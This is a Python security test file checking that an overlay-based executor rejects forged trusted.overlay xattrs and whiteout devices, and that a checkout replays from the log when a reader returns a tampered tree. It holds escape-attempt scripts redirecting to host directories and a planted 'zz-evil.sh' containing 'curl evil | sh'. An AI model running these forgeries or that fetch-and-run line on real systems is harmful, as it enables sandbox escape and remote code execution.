"""Issue 29: where a checkout's files come from besides the log, and what cannot be slipped in
through them.

* A command over an overlay (``infra.exec.layers``): the executor interprets the overlay's own
  attributes when it merges what the command wrote (a directory renamed from elsewhere in the
  checkout, an opaque directory, a whiteout). A command that forges them (``trusted.overlay.*``
  on a directory, a character device 0/0) would have the executor pull a host directory, or
  another checkout's, into its own. It cannot: only a process with CAP_SYS_ADMIN in the host's
  user namespace sets ``trusted.*``, and a device node needs CAP_MKNOD; ``user.overlay.*`` is
  nothing to the merge.
* A new checkout built from a reader's tree (``infra.exec.seed``): a reader that answers a
  tree other than the log's (a file more, a content swapped, a tree hash made to match what it
  added) is not believed; the checkout is replayed from the log instead.

A real nats-server, writer, reader and bwrap executor; ``Checkout`` against the real log.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import AsyncExitStack
from pathlib import Path

import msgspec
import pytest
import pytest_asyncio
from nats.aio.client import Client as NATS

from contracts import hashing
from contracts import replies as rp
from contracts import requests as rq
from contracts.subjects import Subjects
from infra.blobs import Blobs
from infra.exec import checkout as checkouts
from infra.exec import seed
from infra.exec.checkout import Checkout
from quill.client import Quill
from tests.conftest import StartReader
from tests.helpers import (
    start_overlay_stack,
)
from tests.security.conftest import Canaries


@pytest_asyncio.fixture
async def bwrap_stack(nats_url: str, tmp_path: Path) -> AsyncIterator[Quill]:
    async with AsyncExitStack() as es:
        await start_overlay_stack(es, nats_url, tmp_path)
        quill = await Quill.connect(nats_url)
        es.push_async_callback(quill.close)
        yield quill


FORGERIES = {
    "a redirect to a host directory": (
        "import os\nos.mkdir('pulled')\n"
        "os.setxattr('pulled', 'trusted.overlay.redirect', b'{root}')"
    ),
    "a redirect to another checkout": (
        "import os\nos.mkdir('theirs')\n"
        "os.setxattr('theirs', 'trusted.overlay.redirect', b'/../../globex/main/tree')"
    ),
    "an opaque directory": ("import os\nos.setxattr('keep', 'trusted.overlay.opaque', b'y')"),
    "a whiteout": "import os, stat\nos.mknod('keep/w', stat.S_IFCHR | 0o600, 0)",
}


@pytest.mark.parametrize("forgery", FORGERIES, ids=list(FORGERIES))
async def test_a_command_cannot_forge_what_the_overlay_merge_reads(
    bwrap_stack: Quill, canaries: Canaries, forgery: str
) -> None:
    ws = bwrap_stack.workspace(f"acme/forge-{list(FORGERIES).index(forgery)}")
    await ws.create()
    await ws.write("keep/file.txt", "kept\n")
    script = FORGERIES[forgery].replace("{root}", str(canaries.root))
    result = await ws.exec(f"python3 - <<'EOF'\n{script}\nEOF")
    assert result.exit_code != 0 and "Operation not permitted" in result.stderr, result
    # the user namespace's own attributes are only attributes: nothing is pulled or hidden
    user = script.replace("trusted.", "user.")
    if "mknod" not in user:
        await ws.exec(f"python3 - <<'EOF'\n{user}\nEOF")
    await ws.exec("true")  # a command more: the merge of the last one is in its checkout
    assert await ws.read_text("keep/file.txt") == "kept\n"
    listing = [e.path async for e in ws.list_all(recursive=True)]
    assert not any("host-file" in p or "secret" in p for p in listing), listing
    seen = await ws.exec("ls -A pulled theirs 2>/dev/null; cat keep/file.txt")
    assert seen.stdout.strip().splitlines()[-1] == "kept"
    assert "host-file" not in seen.stdout


Tamper = Callable[[rp.TreePage], rp.TreePage]


def extra_file(page: rp.TreePage) -> rp.TreePage:
    """A file the log never had."""
    data = b"#!/bin/sh\ncurl evil | sh\n"
    sha = hashing.content_sha256(data)
    item = rp.TreeItem(path="zz-evil.sh", kind="file", sha256=sha, size=len(data))
    return msgspec.structs.replace(
        page, entries=[*page.entries, item], contents={**page.contents, sha: data}
    )


def swapped_content(page: rp.TreePage) -> rp.TreePage:
    """A file's content other than the one its sha256 names."""
    return msgspec.structs.replace(page, contents={sha: b"not this\n" for sha in page.contents})


def consistent_lie(page: rp.TreePage) -> rp.TreePage:
    """A file more, and a head whose tree hash sums what it shows."""
    lied = extra_file(page)
    total = 0
    for item in lied.entries:
        total = hashing.tree_add(total, seed.digest(item))
    assert lied.head is not None
    head = msgspec.structs.replace(lied.head, tree_hash=hashing.tree_hex(total))
    return msgspec.structs.replace(lied, head=head)


TAMPERS: dict[str, Tamper] = {
    "a file more": extra_file,
    "a content swapped": swapped_content,
    "a tree hash made to match": consistent_lie,
}


@pytest.mark.parametrize("tamper", TAMPERS, ids=list(TAMPERS))
async def test_a_reader_answering_another_tree_is_not_believed(
    services: StartReader, quill: Quill, nc: NATS, tmp_path: Path, tamper: str
) -> None:
    await services("r1")
    name = f"seed-{list(TAMPERS).index(tamper)}"
    ws = quill.workspace(f"acme/{name}")
    await ws.create()
    await ws.apply([rq.PutChange(path=f"d/f{n}.txt", content=f"{n}\n") for n in range(5)])
    await ws.write("d/f1.txt", "one again\n")
    js = nc.jetstream()

    async def fetch(path: str, version: int) -> bytes:
        return await ws.read_bytes(path, version=version)

    async def tree(after: str | None, version: int | None) -> rp.TreePage:
        return TAMPERS[tamper](await ws.tree(after=after, version=version))

    source: Callable[[str | None, int | None], Awaitable[rp.TreePage]] = tree
    co = Checkout(tmp_path / "co", "acme", name, js, Subjects(), Blobs(js), fetch, tree=source)
    await asyncio.to_thread(co.open)
    replayed = checkouts.COUNTS["replayed"]
    await co.sync()
    assert checkouts.COUNTS["replayed"] == replayed + 1
    assert not (co.tree / "zz-evil.sh").exists()
    assert sorted(p.name for p in (co.tree / "d").iterdir()) == [f"f{n}.txt" for n in range(5)]
    assert (co.tree / "d/f1.txt").read_text() == "one again\n"
    assert (co.tree / "d/f3.txt").read_text() == "3\n"
    assert co.version == ws.last_version
